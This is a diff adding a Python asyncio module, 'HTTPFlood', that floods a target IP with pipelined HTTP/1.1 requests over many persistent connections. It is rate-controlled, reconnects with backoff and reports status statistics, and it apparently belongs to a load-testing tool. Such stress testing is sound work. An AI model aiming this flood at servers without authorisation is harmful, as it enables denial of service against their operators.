@@ -0,0 +1,270 @@
+"""Pipelined HTTP/1.1 flood over persistent connections (asyncio Protocol)"""
+
+import asyncio
+import logging
+from collections import Counter
+from typing import Callable, Dict, List, Optional
+
+from .rate_control import RateController
+
+logger = logging.getLogger(__name__)
+
+MAX_HEADER_BYTES = 65536
+RECONNECT_DELAY_MIN = 0.05
+RECONNECT_DELAY_MAX = 1.0
+
+
+class _ResponseCounter:
+    """
+    Finds response boundaries in a pipelined byte stream with as little parsing
+    as possible: status code, Content-Length / chunked end, nothing else.
+    """
+    
+    def __init__(self):
+        self.buffer = bytearray()
+        self.body_remaining = 0
+        self.chunked = False
+        self.until_close = False
+        self.status = 0
+    
+    def feed(self, data: bytes, statuses: List[int]) -> bool:
+        """Consume data, appending the status of each complete response; False = protocol error"""
+        if self.until_close:
+            return True
+        self.buffer += data
+        buffer = self.buffer
+        
+        while buffer:
+            if self.body_remaining:
+                skip = min(self.body_remaining, len(buffer))
+                del buffer[:skip]
+                self.body_remaining -= skip
+                if self.body_remaining:
+                    return True
+                statuses.append(self.status)
+                continue
+            
+            if self.chunked:
+                if buffer.startswith(b"0\r\n\r\n"):
+                    end = 5
+                else:
+                    end = buffer.find(b"\r\n0\r\n\r\n")
+                    if end < 0:
+                        return True
+                    end += 7
+                del buffer[:end]
+                self.chunked = False
+                statuses.append(self.status)
+                continue
+            
+            header_end = buffer.find(b"\r\n\r\n")
+            if header_end < 0:
+                return len(buffer) <= MAX_HEADER_BYTES
+            if not buffer.startswith(b"HTTP/1."):
+                return False
+            
+            head = bytes(buffer[:header_end]).lower()
+            del buffer[:header_end + 4]
+            try:
+                self.status = int(head[9:12])
+            except ValueError:
+                return False
+            
+            length_at = head.find(b"\r\ncontent-length:")
+            if length_at >= 0:
+                line_end = head.find(b"\r\n", length_at + 2)
+                value = head[length_at + 17:line_end if line_end >= 0 else None]
+                try:
+                    self.body_remaining = int(value.strip() or 0)
+                except ValueError:
+                    return False
+                if self.body_remaining < 0:
+                    return False
+                if not self.body_remaining:
+                    statuses.append(self.status)
+            elif b"\r\ntransfer-encoding: chunked" in head:
+                self.chunked = True
+            elif self.status in (204, 304) or self.status < 200:
+                statuses.append(self.status)
+            else:
+                # No framing: body runs until the server closes
+                self.until_close = True
+                buffer.clear()
+                return True
+        return True
+
+
+class _FloodProtocol(asyncio.Protocol):
+    """One persistent connection keeping up to `pipeline` requests in flight"""
+    
+    def __init__(self, flood: 'HTTPFlood'):
+        self.flood = flood
+        self.transport: Optional[asyncio.Transport] = None
+        self.counter = _ResponseCounter()
+        self.in_flight = 0
+        self.responses = 0
+        self.paused = False
+        self.refill_scheduled = False
+    
+    def connection_made(self, transport):
+        self.transport = transport
+        if not self.flood.running:
+            transport.close()
+            return
+        self.flood.connections_opened += 1
+        self.flood.protocols.append(self)
+        self.fill()
+    
+    def _on_refill_timer(self):
+        self.refill_scheduled = False
+        self.fill()
+    
+    def fill(self):
+        """Top the pipeline up with as many requests as the rate budget allows"""
+        if self.transport is None or self.paused or not self.flood.running:
+            return
+        room = self.flood.pipeline - self.in_flight
+        if room <= 0:
+            return
+        
+        count = self.flood.rate.take(room)
+        if count:
+            self.transport.write(self.flood.next_requests(count))
+            self.in_flight += count
+            self.flood.requests_sent += count
+        if count < room and not self.refill_scheduled:
+            self.refill_scheduled = True
+            delay = max(self.flood.rate.delay(room - count), 0.001)
+            self.flood.loop.call_later(delay, self._on_refill_timer)
+    
+    def data_received(self, data):
+        statuses: List[int] = []
+        if not self.counter.feed(data, statuses):
+            self.flood.protocol_errors += 1
+            self.transport.close()
+            return
+        if statuses:
+            self.in_flight -= len(statuses)
+            self.responses += len(statuses)
+            self.flood.record(statuses)
+            self.fill()
+    
+    def pause_writing(self):
+        self.paused = True
+    
+    def resume_writing(self):
+        self.paused = False
+        self.fill()
+    
+    def connection_lost(self, exc):
+        if self.counter.until_close:
+            self.flood.record([self.counter.status])
+        self.transport = None
+        self.flood.on_connection_lost(self)
+
+
+class HTTPFlood:
+    """
+    HTTP/1.1 request generator: `connections` persistent sockets, each with up
+    to `pipeline` requests in flight, written from a pool of pre-rendered
+    request bytes. Responses are counted from their status line and framing
+    headers only; `on_responses(count)` is called per batch received.
+    """
+    
+    def __init__(
+        self,
+        target_ip: str,
+        port: int,
+        render_request: Callable[[], bytes],
+        rate: RateController,
+        on_responses: Callable[[int], None],
+        connections: int = 50,
+        pipeline: int = 16,
+        templates: int = 256
+    ):
+        self.target_ip = target_ip
+        self.port = port
+        self.rate = rate
+        self.on_responses = on_responses
+        self.connection_count = max(1, connections)
+        self.pipeline = max(1, pipeline)
+        self.loop: Optional[asyncio.AbstractEventLoop] = None
+        self.running = False
+        
+        # Pre-render once; per request we only slice and join bytes
+        self.templates = [render_request() for _ in range(max(1, templates))]
+        self._next_template = 0
+        
+        self.protocols: List[_FloodProtocol] = []
+        self.requests_sent = 0
+        self.responses = 0
+        self.statuses: Counter = Counter()
+        self.connections_opened = 0
+        self.connect_failures = 0
+        self.protocol_errors = 0
+        self._reconnects: List[asyncio.Task] = []
+    
+    def next_requests(self, count: int) -> bytes:
+        templates = self.templates
+        start = self._next_template
+        end = start + count
+        self._next_template = end % len(templates)
+        if end <= len(templates):
+            return b"".join(templates[start:end])
+        return b"".join(templates[i % len(templates)] for i in range(start, end))
+    
+    def record(self, statuses: List[int]):
+        self.responses += len(statuses)
+        self.statuses.update(statuses)
+        self.on_responses(len(statuses))
+    
+    async def _connect(self, delay: float = 0.0):
+        """Open one connection, retrying with backoff while the flood runs"""
+        while self.running:
+            if delay:
+                await asyncio.sleep(delay)
+            try:
+                await self.loop.create_connection(lambda: _FloodProtocol(self), self.target_ip, self.port)
+                return
+            except OSError:
+                self.connect_failures += 1
+                delay = min(max(delay * 2, RECONNECT_DELAY_MIN), RECONNECT_DELAY_MAX)
+    
+    def on_connection_lost(self, protocol: _FloodProtocol):
+        if protocol in self.protocols:
+            self.protocols.remove(protocol)
+        if self.running:
+            # Server closed (keep-alive limit, error): replace the connection,
+            # backing off if it never answered so a hostile server can't spin us
+            task = self.loop.create_task(self._connect(0.0 if protocol.responses else RECONNECT_DELAY_MIN))
+            self._reconnects.append(task)
+            task.add_done_callback(self._reconnects.remove)
+    
+    async def run(self, duration: float):
+        """Flood for duration seconds, then close every connection"""
+        self.loop = asyncio.get_running_loop()
+        self.running = True
+        connectors = [asyncio.create_task(self._connect()) for _ in range(self.connection_count)]
+        try:
+            await asyncio.sleep(duration)
+        finally:
+            self.running = False
+            for task in connectors + self._reconnects:
+                task.cancel()
+            for protocol in list(self.protocols):
+                if protocol.transport is not None:
+                    protocol.transport.close()
+    
+    def get_stats(self) -> Dict:
+        status_classes = Counter()
+        for status, count in self.statuses.items():
+            status_classes[f"{status // 100}xx"] += count
+        return {
+            'requests_sent': self.requests_sent,
+            'responses': self.responses,
+            'status_classes': dict(status_classes),
+            'connections_open': len(self.protocols),
+            'connections_opened': self.connections_opened,
+            'connect_failures': self.connect_failures,
+            'protocol_errors': self.protocol_errors
+        }